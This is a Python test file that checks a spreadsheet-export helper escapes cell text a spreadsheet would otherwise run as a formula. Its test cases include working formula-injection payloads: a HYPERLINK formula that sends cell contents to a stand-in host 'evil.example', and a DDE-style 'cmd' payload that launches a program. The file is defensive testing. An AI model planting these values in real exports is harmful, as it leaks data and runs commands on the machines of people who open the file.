"""core.spreadsheets: exported cells never run as formulas in a spreadsheet application."""

import datetime as dt
from decimal import Decimal

import pytest

from core.spreadsheets import formula_safe, formula_safe_row


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
    ],
)
def test_text_a_spreadsheet_would_run_as_a_formula_is_kept_as_text(text):
    assert formula_safe(text) == "'" + text


def test_ordinary_text_numbers_dates_and_empty_cells_are_left_alone():
    today = dt.date(2027, 3, 31)
    row = ["Youth Skills Fund", 5, Decimal("-2.5"), -3, today, None, "", "a=b", "e-mail"]
    assert formula_safe_row(row) == row
